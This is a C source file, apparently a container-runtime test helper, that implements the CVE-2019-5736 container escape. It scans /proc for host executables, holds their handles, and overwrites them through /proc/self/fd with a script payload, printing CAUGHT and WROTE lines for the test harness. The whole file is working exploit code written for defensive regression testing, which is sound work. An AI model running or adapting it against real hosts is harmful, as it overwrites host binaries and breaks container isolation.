// SPDX-License-Identifier: Apache-2.0
/*
 * exeattack: the CVE-2019-5736 attacker, built static into a test bundle's rootfs and run as
 * a container's process. It scans /proc for processes whose executable is not one of the
 * container's own files, holds each one's /proc/PID/exe with O_PATH, and once that process
 * is gone (ETXTBSY no longer applies) reopens it for writing through /proc/self/fd/N and
 * writes over it. Prints "WROTE <target>" for each success, "CAUGHT <target>" for each exe
 * it got hold of, and runs until it is killed or the file STOP appears.
 *   exeattack STOP-FILE
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define MAX_HELD 64

struct held {
	int fd;
	char what[256];
};

static struct stat own, busybox;

/* Files of the container itself (busybox, this program) are not the prize. */
static int is_container_file(int fd)
{
	struct stat st;
	if (fstat(fd, &st) < 0)
		return 1;
	return (st.st_dev == own.st_dev && st.st_ino == own.st_ino) ||
	       (st.st_dev == busybox.st_dev && st.st_ino == busybox.st_ino);
}

static int holds(const struct held *h, size_t n, const char *what)
{
	for (size_t i = 0; i < n; i++)
		if (!strcmp(h[i].what, what))
			return 1;
	return 0;
}

static void scan(struct held *h, size_t *n)
{
	DIR *d = opendir("/proc");
	struct dirent *e;
	if (!d)
		return;
	while ((e = readdir(d)) && *n < MAX_HELD) {
		char path[64], target[256];
		if (e->d_name[0] < '0' || e->d_name[0] > '9' || atoi(e->d_name) == getpid())
			continue;
		snprintf(path, sizeof(path), "/proc/%s/exe", e->d_name);
		int fd = open(path, O_PATH | O_CLOEXEC);
		if (fd < 0)
			continue;
		ssize_t len = readlink(path, target, sizeof(target) - 1);
		target[len > 0 ? len : 0] = '\0';
		if (is_container_file(fd) || holds(h, *n, target)) {
			close(fd);
			continue;
		}
		h[*n].fd = fd;
		snprintf(h[*n].what, sizeof(h[*n].what), "%s", target);
		printf("CAUGHT %s\n", target);
		fflush(stdout);
		(*n)++;
	}
	closedir(d);
}

/* Each held exe: once nothing runs it, open it for writing and overwrite its start. */
static void strike(struct held *h, size_t *n)
{
	for (size_t i = 0; i < *n; i++) {
		char path[64];
		snprintf(path, sizeof(path), "/proc/self/fd/%d", h[i].fd);
		int w = open(path, O_WRONLY | O_CLOEXEC);
		if (w < 0) {
			if (errno == ETXTBSY)
				continue;
			printf("REFUSED %s: %s\n", h[i].what, strerror(errno));
		} else {
			static const char payload[] = "#!/bin/sh\necho pwned\n";
			if (pwrite(w, payload, sizeof(payload) - 1, 0) > 0)
				printf("WROTE %s\n", h[i].what);
			else
				printf("REFUSED %s: write: %s\n", h[i].what, strerror(errno));
			close(w);
		}
		fflush(stdout);
		close(h[i].fd);
		h[i--] = h[--*n];
	}
}

int main(int argc, char **argv)
{
	struct held h[MAX_HELD];
	size_t n = 0;
	if (argc != 2 || stat("/proc/self/exe", &own) < 0 || stat("/bin/busybox", &busybox) < 0) {
		fprintf(stderr, "usage: exeattack STOP-FILE\n");
		return 2;
	}
	printf("attacking\n");
	fflush(stdout);
	while (access(argv[1], F_OK) != 0) {
		scan(h, &n);
		strike(h, &n);
	}
	printf("stopped\n");
	return 0;
}
